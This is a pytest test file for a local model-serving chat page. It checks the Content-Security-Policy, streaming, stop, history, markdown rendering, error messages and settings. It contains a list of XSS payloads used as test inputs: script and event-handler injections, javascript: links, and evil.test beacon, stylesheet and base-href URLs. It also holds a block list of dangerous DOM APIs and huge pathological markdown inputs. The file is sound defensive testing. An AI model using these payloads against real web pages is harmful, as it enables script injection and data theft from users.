"""The chat page: what it is sent with, without a browser; how it behaves, in Chromium against `quire serve` with the default
model; and hostile answers, errors and markdown against a stand-in that sends the same page."""

import base64
import hashlib
import json
import re
from html.parser import HTMLParser

import pytest

from page_tools import Page, StandIn, delta, open_browser
from server import Server, until

ENTER, ESCAPE, CONTROL, SHIFT = "\ue007", "\ue00c", "\ue009", "\ue008"


@pytest.fixture(scope="module")
def tiny(quire, tmp_path_factory):
    path = tmp_path_factory.mktemp("page") / "tiny.gguf"
    quire.run("synth", "tiny-llama", path, "--seed", 1)
    running = Server(quire.path, path, "--max-num-seqs", 2, "--kv-cache-tokens", 4096, "--api-key", "sesame")
    yield running
    assert running.stop() == 0


@pytest.fixture(scope="module")
def sent(tiny):
    """(header fields, the page), which needs no key."""
    head, _, body = tiny.raw(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n").partition(b"\r\n\r\n")
    status, *lines = head.decode().split("\r\n")
    assert status == "HTTP/1.1 200 OK"
    return dict(line.split(": ", 1) for line in lines), body


# ---------------------------------------------------------------- without a browser


def element(page, name):
    (found,) = re.findall(rf"<{name}[^>]*>(.*?)</{name}>", page.decode(), re.S)
    return found


def test_policy_names_what_runs(sent):
    fields, page = sent
    policy = dict(part.split(" ", 1) for part in fields["Content-Security-Policy"].split("; "))
    for name, directive in (("script", "script-src"), ("style", "style-src")):
        digest = hashlib.sha256(element(page, name).encode()).digest()
        assert policy[directive] == f"'sha256-{base64.b64encode(digest).decode()}'"
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == policy["frame-ancestors"] == "'none'"
    assert policy["connect-src"] == "'self'" and policy["img-src"] == "data:"
    assert policy["require-trusted-types-for"] == "'script'" and policy["trusted-types"] == "'none'"
    assert "unsafe" not in fields["Content-Security-Policy"]


def test_other_fields(tiny, sent):
    fields, page = sent
    assert fields["Content-Type"] == "text/html; charset=utf-8"
    assert fields["X-Content-Type-Options"] == "nosniff"
    assert fields["Referrer-Policy"] == "no-referrer"
    status, lines, body = tiny.ask("/", method="HEAD")
    assert (status, body) == (200, b"") and f"content-length: {len(page)}" in lines
    assert tiny.ask("/", body={}, method="POST")[0] == 405
    assert tiny.ask("/v1/models")[0] == 401  # the page is open, the models are not


class Outside(HTMLParser):
    """Collects what would make a browser ask for something, or run something."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            inside = value is None or value.startswith(("data:image/svg+xml,", "#"))
            if name in ("src", "srcset", "href", "action", "data", "poster", "background", "ping", "formaction") and not inside:
                self.found.append((tag, name, value))
            if name.startswith("on") or name == "style" or (tag == "meta" and name == "http-equiv"):
                self.found.append((tag, name, value))
        if tag in ("base", "iframe", "object", "embed", "frame", "img", "audio", "video", "source"):
            self.found.append((tag, "", ""))


def test_names_no_outside_resource(sent):
    _, page = sent
    parser = Outside()
    parser.feed(page.decode())
    assert parser.found == []
    style, script = element(page, "style"), element(page, "script")
    assert not re.search(r"url\(|@import|@font-face|image-set", style)
    words = r"\bimport\b|\beval\b|new Function|innerHTML|outerHTML|insertAdjacentHTML|document\.write|setHTML|parseFromString|sendBeacon|WebSocket|EventSource|XMLHttpRequest|srcdoc"
    assert not re.search(words, script)
    assert re.findall(r"https?://[\w.-]+", page.decode()) == ["http://www.w3.org"]  # the icon's namespace
    assert set(re.findall(r"fetch\('([^']*)'", script)) == {"v1/models", "v1/chat/completions"}


# ---------------------------------------------------------------- with the default model


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    downloads = tmp_path_factory.mktemp("downloads")
    driver = open_browser(downloads)
    driver.downloads = downloads
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def model_server(quire, default_model):
    running = Server(quire.path, default_model)
    yield running
    assert running.stop() == 0


def set_length(page, max_tokens):
    page.js("localStorage.setItem('quire.settings', JSON.stringify({temperature: 0, max_tokens: arguments[0]}))", max_tokens)
    page.driver.refresh()
    page.ready()


@pytest.fixture
def page(browser, model_server):
    shown = Page(browser, f"http://127.0.0.1:{model_server.port}/").open()
    set_length(shown, 150)
    yield shown
    assert quiet(browser) == []


def quiet(driver):
    """What the browser complained of: refused resources, errors of the script."""
    return [entry["message"] for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]


def test_send_and_stream(page):
    page.js("""window.lengths = new Set(); new MutationObserver(() => {
               const body = document.querySelector('.assistant .body');
               if (body && document.body.classList.contains('answering')) lengths.add(body.textContent.length);
             }).observe(document.getElementById('log'), {subtree: true, childList: true, characterData: true})""")
    page.send("Tell me a short story about the Moon.")
    asked, answered = page.texts()
    assert asked == "Tell me a short story about the Moon." and len(answered) > 40
    assert page.js("return lengths.size") > 5  # it grew on the screen
    assert re.fullmatch(r"[\d.]+ tok/s · first token [\d.]+ m?s · \d+ tokens( · cut at the length limit)?", page.find(".assistant .stats").text)
    assert page.find("#live").get_attribute("textContent").startswith("Answer: ")
    assert page.find("#model").text in str(page.js("return fetch('v1/models').then((r) => r.text())"))


def test_stop_frees_the_server(page, model_server):
    set_length(page, 8000)
    page.send("Write a very long story about a ship, with many chapters.", wait=False)
    until(lambda: len(page.texts()) == 2 and len(page.texts()[1]) > 30, what="text")
    assert page.find("#send").get_attribute("aria-label") == "Stop"
    page.keys(ESCAPE)
    page.idle(5)
    until(lambda: model_server.metric("vllm:num_requests_running") == 0, 5, "the request's end")
    assert page.find(".assistant .stats").text.endswith("stopped")
    kept = page.texts()
    page.send("Again, please.", wait=False)
    until(lambda: len(page.texts()) == 4 and page.texts()[3], what="text")
    page.press("#send")  # the button stops, too
    page.idle(5)
    assert page.texts()[:2] == kept


def test_reload_keeps_the_history(page):
    page.send("Say hello.")
    before = page.texts()
    page.driver.refresh()
    page.ready()
    assert page.texts() == before and len(before) == 2
    assert page.find(".chat [aria-current]").text == "Say hello."
    page.driver.get(page.url)  # without its mark: a new conversation, the old one is in the list
    page.ready()
    assert page.texts() == [] and [one.text for one in page.all(".chat .open")] == ["Say hello."]
    page.press(".chat .open")
    assert page.texts() == before


# ---------------------------------------------------------------- with a stand-in


@pytest.fixture(scope="module")
def stand_in(sent):
    fields, body = sent
    keep = {name: value for name, value in fields.items() if name not in ("Date", "Server", "Connection", "Content-Length")}
    running = StandIn(body, keep)
    yield running
    running.stop()


@pytest.fixture
def talk(browser, stand_in):
    shown = Page(browser, stand_in.url).open()
    browser.get_log("browser")
    stand_in.asked.clear()
    return shown


HOSTILE = {
    "script": "<script>window.pwned = 1</script>",
    "closed elements": "</script></style></textarea></title><script>window.pwned = 1</script>",
    "handler": '<img src=x onerror="window.pwned = 1"><svg onload=window.pwned=1><details open ontoggle=window.pwned=1>',
    "frames": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="javascript:pwned=1"></object><base href="//evil.test/">',
    "links": "[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](java\u0001script:window.pwned=1) [d](<java\tscript:window.pwned=1>) "
    "[e](data:text/html,<script>window.pwned=1</script>) [f](vbscript:x) [g](&#106;avascript:window.pwned=1) [h](//evil.test/x) [i](blob:x) [j](file:///etc/passwd)",
    "image": "![x](https://evil.test/beacon?secret) ![y](javascript:window.pwned=1)",
    "in a link": '[<img src=x onerror=window.pwned=1>](https://a.test/"onmouseover="window.pwned=1) <https://b.test/"onclick=x>',
    "title": "[a](https://a.test/ '\"><script>window.pwned=1</script>')",
    "language": "```<script>window.pwned=1</script>\"onclick=window.pwned=1\ntext\n```",
    "table": "| <script>window.pwned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | [x](javascript:pwned=1) |",
    "unclosed fence": "before\n\n```html\n<script>window.pwned = 1</script>\n\n# not a heading\n",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.test/x.css><meta http-equiv=refresh content='0;url=//evil.test'>",
    "quotes": "> <script>window.pwned=1</script>\n> - <img src=x onerror=window.pwned=1>\n",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;img src=x onerror=window.pwned=1&#x3e;",
}
ALLOWED = set("p br a code pre em strong s div span button ul ol li blockquote hr table thead tbody tr th td h2 h3 h4 h5 h6".split())


def check_nodes(page):
    """Only elements that the renderer makes, links that lead where they may, no handler, nothing that ran or was asked for."""
    names, attributes, links = page.js("""
        const nodes = [...document.querySelectorAll('.assistant .body *, .thought .prose *')];
        return [[...new Set(nodes.map((n) => n.localName))],
                [...new Set(nodes.flatMap((n) => n.getAttributeNames()))],
                nodes.filter((n) => n.localName === 'a').map((a) => [a.protocol, a.rel, a.target])]""")
    assert set(names) <= ALLOWED
    assert set(attributes) <= {"class", "href", "target", "rel", "title", "type", "aria-label", "tabindex", "scope", "start"}
    for protocol, rel, target in links:
        assert protocol in ("http:", "https:", "mailto:") and "noopener" in rel and target == "_blank"
    assert page.js("return typeof window.pwned") == "undefined"
    assert page.js("return performance.getEntriesByType('resource').map((e) => e.name)"
                   ".filter((name) => !name.startsWith(location.origin) && !name.startsWith('data:'))") == []


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_answers_stay_text(talk, stand_in, name):
    text = HOSTILE[name]
    stand_in.say(text, cut=11)
    talk.send("x")
    check_nodes(talk)
    for link in talk.all(".assistant .body a"):
        assert re.match(r"https://[ab]\.test/|https://evil\.test/beacon", link.get_attribute("href"))
    shown = talk.texts()[1]
    if name in ("script", "closed elements", "handler", "style", "frames"):
        assert shown == text  # to the letter
    talk.driver.refresh()  # and the same from what was kept
    talk.ready()
    assert talk.texts()[1] == shown
    check_nodes(talk)
    assert quiet(talk.driver) == []


def test_hostile_everywhere_else(talk, stand_in):
    stand_in.reply = lambda handler: handler.send_events(
        [delta(reasoning_content=HOSTILE["script"] + HOSTILE["links"]), delta(content="done"), {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}])
    talk.send(HOSTILE["handler"])
    check_nodes(talk)
    assert talk.texts() == [HOSTILE["handler"], "done"]
    assert talk.find(".chat .open").text == HOSTILE["handler"][:47] + "…"
    assert not talk.find(".thought").get_attribute("open") and talk.find(".thought").is_displayed()
    stand_in.reply = lambda handler: handler.send_error_json(400, HOSTILE["handler"])
    talk.send("y")
    assert "onerror" in talk.notice()
    assert talk.js("return [document.querySelectorAll('img, iframe, details svg').length, typeof window.pwned]") == [0, "undefined"]


def test_the_policy_holds(talk):
    """If the renderer ever made HTML of text, the browser would refuse: the net below the net, seen to hold."""
    assert talk.js("""try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">'); return 'made'; }
                      catch (error) { return error.name; }""") == "TypeError"
    talk.js("const s = document.createElement('div'); document.body.append(s); s.setAttribute('style', 'color: red')")
    assert talk.js("return document.body.lastChild.style.color") == ""


LARGE = {
    "table": "|" + " a |" * 10 + "\n|" + "---|" * 10 + "\n" + ("|" + " cell |" * 10 + "\n") * 3000,
    "wide table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n",
    "quotes": ">" * 20000 + " deep",
    "lists": "".join("  " * i + "- x\n" for i in range(1000)),
    "stars": "*a **b " * 3000,
    "closers": "a* b** " * 3000,
    "strangers": "_a " * 3000 + "b* " * 3000,
    "pairs": "*a " * 3000 + "b* " * 3000,
    "brackets": "[" * 20000 + "](",
    "links": "[a](" * 8000,
    "link starts": "](a" * 8000,
    "ticks": "".join("`" * (i % 90 + 1) + " " for i in range(3000)),
    "underscores": "_" * 19000,
    "tildes": "~~~a ~~b~~~ " * 1500,
    "one line": "word " * 60000,
    "fence": "```\n" + "x = 1\n" * 20000,
    "headings": "# a\n" * 3000,
    "pipes": "|" * 50000 + "\n" + "|" * 50000,
    "digits": "1. " * 9000,
    "addresses": "http://a.b/" + "." * 19000,
}


@pytest.mark.parametrize("name", LARGE)
def test_large_answers(talk, stand_in, name):
    """Each comes in parts, is rendered without an error, within seconds."""
    text = LARGE[name]
    stand_in.reply = lambda handler: handler.send_events([delta(content=text[i : i + 4000]) for i in range(0, len(text), 4000)])
    talk.send("x", wait=False)
    talk.idle(8)
    check_nodes(talk)
    assert talk.js("return document.querySelector('.assistant .body').childElementCount") > 0
    assert quiet(talk.driver) == []
    if name == "table":
        assert talk.js("return document.querySelectorAll('.assistant tbody tr').length") == 3000
    depth = talk.js("""let most = 0;
        for (const node of document.querySelectorAll('.assistant .body *')) {
          let d = 0;
          for (let up = node; !up.classList.contains('body'); up = up.parentNode) d++;
          most = Math.max(most, d);
        }
        return most""")
    assert depth < 40  # of nodes in each other, whatever the model nests


# (markdown, nodes): by CommonMark 0.31 and GitHub's tables, but that headings are one level lower, as the page has its own
# first one, and that a line's end is one.
MARKDOWN = [
    ("# a\n\n### b #", '<h2 class="h1">a</h2><h4 class="h3">b</h4>'),
    ("a\nb\n\nc", '<p class="">a<br>b</p><p class="">c</p>'),
    ("**a** *b* __c__ _d_ ***e*** ~~f~~", '<p class=""><strong>a</strong> <em>b</em> <strong>c</strong> <em>d</em> <em><strong>e</strong></em> <s>f</s></p>'),
    ("snake_case_name 2 * 3 * 4 \\*a\\*", "<p>snake_case_name 2 * 3 * 4 *a*</p>"),
    ("**a*b*c** *a **b** c*", "<p><strong>a<em>b</em>c</strong> <em>a <strong>b</strong> c</em></p>"),
    ("`a` ``b`c`` `d", "<p><code>a</code> <code>b`c</code> `d</p>"),
    ("`*a*` *`b`*", "<p><code>*a*</code> <em><code>b</code></em></p>"),
    ("- a\n- b\n  - c\n\n1. x\n2. y", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>x</li><li>y</li></ol>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    ("1. a\n   ```\n   x\n   ```\n2. b", '<ol><li>a<div class="code"><div class="code-head"><span>text</span>COPY</div><pre tabindex="0"><code>x</code></pre></div></li><li>b</li></ol>'),
    ("> a\n> b\n>\n> > c", "<blockquote><p>a<br>b</p><blockquote><p>c</p></blockquote></blockquote>"),
    ("```c\nint a;\n\nint b;\n```\nend", '<div class="code"><div class="code-head"><span>c</span>COPY</div><pre tabindex="0"><code>int a;\n\nint b;</code></pre></div><p>end</p>'),
    ("~~~\n```\n~~~", '<div class="code"><div class="code-head"><span>text</span>COPY</div><pre tabindex="0"><code>```</code></pre></div>'),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("| a | b |\n|:--|--:|\n| `x|y` | *c* |\n| d |", '<div class="table" tabindex="0"><table><thead><tr><th scope="col">a</th><th class="right" scope="col">b</th></tr></thead>'
     '<tbody><tr><td><code>x|y</code></td><td class="right"><em>c</em></td></tr><tr><td>d</td><td class="right"></td></tr></tbody></table></div>'),
    ("[a *b*](https://x.test/p_(q)) https://y.test/a_b_c.", "<p>LINK[https://x.test/p_(q)]a <em>b</em></a> LINK[https://y.test/a_b_c]https://y.test/a_b_c</a>.</p>"),
    ("<mailto:a@b.test> [x](mailto:c@d.test)", "<p>LINK[mailto:a@b.test]mailto:a@b.test</a> LINK[mailto:c@d.test]x</a></p>"),
    ("[a](relative) [b]", "<p>[a](relative) [b]</p>"),
    ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>"),
    ("- [ ] a\n- [x] b", "<ul><li>☐ a</li><li>☑ b</li></ul>"),
]


def plain_nodes(html):
    html = re.sub(r'<button [^>]*class="copy"[^>]*>Copy</button>', "COPY", html)
    html = re.sub(r' class="(?!h\d|code|code-head|table|right|center)[^"]*"', "", html)
    return re.sub(r'<a href="([^"]*)" [^>]*>', r"LINK[\1]", html)


@pytest.mark.parametrize("text, nodes", MARKDOWN, ids=range(len(MARKDOWN)))
def test_markdown(talk, stand_in, text, nodes):
    stand_in.say(text)
    talk.send("x")
    assert plain_nodes(talk.html()) == plain_nodes(nodes)


def test_text_comes_whole_from_torn_bytes(talk, stand_in):
    text = "Grüße, 世界 🌍🏽 — " * 4
    stand_in.say(text, size=20, cut=5, pause=0.003)
    talk.send("x")
    assert talk.texts()[1] == text.strip()


# ---------------------------------------------------------------- errors

TROUBLE = {
    "busy": (lambda h: h.send_error_json(429, "queue full", **{"Retry-After": "7"}), "The server is busy\nTry again in 7 seconds."),
    "long": (lambda h: h.send_error_json(400, "the prompt has 9000 tokens, maximum context length is 2048"), "This conversation is longer than the model can read"),
    "wrong": (lambda h: h.send_error_json(400, '"top_p" is 7: it must be at most 1'), "The server did not take this request"),
    "key": (lambda h: h.send_error_json(401, "the API key is missing"), "An API key is needed"),
    "loading": (lambda h: h.send_error_json(503, "the model is still being loaded"), "The server is not ready"),
    "no JSON": (lambda h: h.send(502, b"<h1>Bad gateway</h1>", {"Content-Type": "text/html"}), "Something went wrong\nThe server answered with status 502."),
    "cut": (lambda h: h.send_events([delta(content="Half an ")], done=False), "The answer was cut off"),
    "event": (lambda h: h.send_events([delta(content="Half"), {"error": {"message": "the engine died", "type": "server_error"}}]), "Something went wrong\nThe engine died."),
    "not JSON": (lambda h: h.send(200, b"data: {nonsense\n\n", {"Content-Type": "text/event-stream"}), "The answer was cut off"),
}


@pytest.mark.parametrize("name", TROUBLE)
def test_trouble_is_told_kindly(talk, stand_in, name):
    stand_in.reply, words = TROUBLE[name]
    talk.send("hello")
    assert talk.notice().startswith(words)
    stand_in.say("Fine now.")
    if talk.find("#notice-retry").is_displayed() and name != "key":
        talk.press("#notice-retry")
        until(lambda: talk.texts() == ["hello", "Fine now."], what="the second answer")
        assert not talk.find("#notice").is_displayed()
    assert talk.texts()[0] == "hello"


def test_server_gone(browser, sent):
    fields, body = sent
    other = StandIn(body, {"Content-Security-Policy": fields["Content-Security-Policy"], "Content-Type": fields["Content-Type"]})
    shown = Page(browser, other.url).open()
    other.stop()
    shown.send("hello")
    assert shown.notice().startswith("The server does not answer")
    assert shown.texts() == ["hello"]
    browser.get_log("browser")


# ---------------------------------------------------------------- hands on the page


def test_fields_reach_the_server(talk, stand_in):
    stand_in.say("ok")
    talk.press("#settings-open")
    talk.keys("Be brief.", into="#system")
    for name, value in {"temperature": "0.5", "top_p": "0.9", "top_k": "40", "min_p": "0.05", "max_tokens": "64", "seed": "7"}.items():
        talk.keys(value, into="#" + name)
    talk.press("#settings-close")
    talk.keys("one", SHIFT, ENTER, SHIFT, "two", ENTER)
    talk.idle()
    (request,) = stand_in.asked
    assert request["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "one\ntwo"}]
    assert {name: request[name] for name in ("temperature", "top_p", "top_k", "min_p", "max_tokens", "seed")} == {
        "temperature": 0.5, "top_p": 0.9, "top_k": 40, "min_p": 0.05, "max_tokens": 64, "seed": 7}
    talk.driver.refresh()
    talk.ready()
    talk.press("#settings-open")
    talk.press("#reset")
    talk.keys("9", into="#top_p")  # out of range: marked, not sent
    assert talk.find("#top_p").get_attribute("aria-invalid") == "true"
    talk.send("three")
    assert "top_p" not in stand_in.asked[-1] and "temperature" not in stand_in.asked[-1]
    assert stand_in.asked[-1]["messages"][-2:] == [{"role": "assistant", "content": "ok"}, {"role": "user", "content": "three"}]


def test_edit_and_answer_again(talk, stand_in):
    stand_in.say("first")
    talk.send("question")
    stand_in.say("second")
    talk.press(".assistant [aria-label='Answer again']")
    until(lambda: talk.texts() == ["question", "second"], what="the second answer")
    assert stand_in.asked[-1]["messages"] == [{"role": "user", "content": "question"}]
    stand_in.say("third")
    talk.js("document.querySelector('[aria-label=\"Edit this message\"]').click()")
    talk.keys(" changed", ENTER, into=".edit")
    until(lambda: talk.texts() == ["question changed", "third"], what="the third answer")


def test_conversations(talk, stand_in):
    stand_in.say("**yes**")
    talk.send("first talk")
    talk.keys(CONTROL + SHIFT + "o")
    assert talk.texts() == []
    talk.send("second talk")

    def act(i, label):
        talk.js("document.querySelectorAll('.chat .icon')[arguments[0]].click()", i)
        (entry,) = [one for one in talk.all(".menu button") if one.text == label]
        entry.click()

    names = lambda: [one.text for one in talk.all(".chat .open")]
    assert names() == ["second talk", "first talk"]
    act(1, "Rename")
    talk.js("document.querySelector('.rename').select()")
    talk.keys("Other name", ENTER, into=".rename")
    assert sorted(names()) == ["Other name", "second talk"]
    i = names().index("Other name")
    act(i, "Export as Markdown")
    exported = until(lambda: list(talk.driver.downloads.glob("Other-name*.md")), what="the file")[0]
    assert exported.read_text() == "# Other name\n\n**You**\n\nfirst talk\n\n**Model**\n\n**yes**\n"
    act(i, "Export as JSON")
    exported = until(lambda: list(talk.driver.downloads.glob("Other-name*.json")), what="the file")[0]
    assert [one["content"] for one in json.loads(exported.read_text())["messages"]] == ["first talk", "**yes**"]
    act(i, "Delete")
    assert names() == ["second talk"]
    talk.press("#toast-undo")
    assert sorted(names()) == ["Other name", "second talk"]
    act(names().index("Other name"), "Delete")
    talk.driver.refresh()
    talk.ready()
    assert names() == ["second talk"]


def test_key_lives_as_long_as_the_tab(browser, tiny):
    shown = Page(browser, f"http://127.0.0.1:{tiny.port}/")
    browser.get(shown.url)
    shown.js("localStorage.clear(); sessionStorage.clear()")
    browser.refresh()
    until(lambda: shown.find("#model").text == "API key needed", what="the demand for a key")
    shown.press("#settings-open")
    shown.keys("sesame", ENTER, "\ue004", into="#key")
    shown.ready()
    assert shown.js("return [JSON.stringify(localStorage).includes('sesame'), JSON.stringify(sessionStorage).includes('sesame')]") == [False, True]
    browser.get_log("browser")  # it tells of the 401


def test_damaged_history_does_no_harm(talk):
    talk.js("""localStorage.setItem('quire.chat.a', '{"id":"a","messages":[null,{"role":"x"},{"role":"user","content":5},{"role":"user","content":"kept"}]}');
               localStorage.setItem('quire.chat.b', 'nonsense'); localStorage.setItem('quire.chat.c', '{"id":"other","messages":[]}');
               localStorage.setItem('quire.settings', '[1,2]'); location.hash = '#a'""")
    talk.driver.refresh()
    talk.ready()
    assert talk.texts() == ["kept"] and len(talk.all(".chat")) == 1


def test_dark_and_light(talk):
    def paper():
        return sum(map(int, re.findall(r"\d+", talk.js("return getComputedStyle(document.body).backgroundColor"))[:3]))

    for scheme, bright in (("dark", False), ("light", True)):
        talk.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]})
        assert (paper() > 384) == bright
    talk.press("#theme")  # light
    talk.press("#theme")  # dark
    assert paper() < 384
    talk.driver.refresh()
    assert paper() < 384
    talk.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})


def test_narrow(sent, stand_in):
    driver = open_browser(narrow=True)
    try:
        shown = Page(driver, stand_in.url).open()
        stand_in.say("| a | b | c |\n|---|---|---|\n| " + "wide " * 30 + " | " + "x" * 300 + " | c |\n\n```\n" + "y" * 300 + "\n```\n" + "z" * 300)
        shown.send("w" * 300)
        assert shown.js("return document.scrollingElement.scrollWidth") <= 360
        assert shown.js("return document.getElementById('scroll').scrollWidth") <= 360
        assert not shown.find("#list").is_displayed()
        shown.press("#side-open")
        until(lambda: shown.find("#new").is_displayed(), what="the list")
        shown.press("#side-close")
    finally:
        driver.quit()
